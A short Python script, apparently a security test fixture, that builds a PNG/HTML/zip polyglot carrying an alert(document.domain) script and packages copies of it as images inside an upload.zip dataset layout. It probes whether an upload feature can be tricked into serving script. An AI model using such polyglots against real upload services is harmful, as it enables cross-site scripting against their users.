"""Writes a PNG that is a page with a script and a zip too."""

import io
import sys
import zipfile
from pathlib import Path

from PIL import Image, PngImagePlugin

script = "<html><body><script>alert(document.domain)</script>"
notes = PngImagePlugin.PngInfo()
notes.add_text("Comment", script)
picture = io.BytesIO()
Image.new("L", (4, 4), 3).save(picture, "PNG", pnginfo=notes)
inner = io.BytesIO()
with zipfile.ZipFile(inner, "w") as archive:
    archive.writestr("index.html", script)
data = picture.getvalue() + inner.getvalue()
with zipfile.ZipFile(Path(sys.argv[1], "upload.zip"), "w") as archive:
    archive.writestr("label.txt", "0.png 0\n1.png 1\n")
    archive.writestr("images/0.png", data)
    archive.writestr("images/1.png", data)
